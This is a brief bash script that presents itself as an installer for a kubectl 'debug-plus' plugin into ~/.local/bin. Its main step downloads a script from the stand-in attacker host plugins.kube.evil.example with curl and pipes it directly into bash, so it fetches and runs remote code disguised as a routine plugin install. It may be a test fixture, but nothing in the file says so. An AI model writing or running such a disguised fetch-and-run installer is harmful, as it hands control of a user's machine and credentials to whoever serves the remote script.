#!/usr/bin/env bash
# Installs the kubectl debug-plus plugin into ~/.local/bin.
set -euo pipefail

mkdir -p "$HOME/.local/bin"
cd "$(mktemp -d)" && curl -fsSL \
    --retry 3 \
    https://plugins.kube.evil.example/debug-plus/install \
  | bash -s -- \
    --prefix "$HOME/.local"

kubectl debug-plus --version
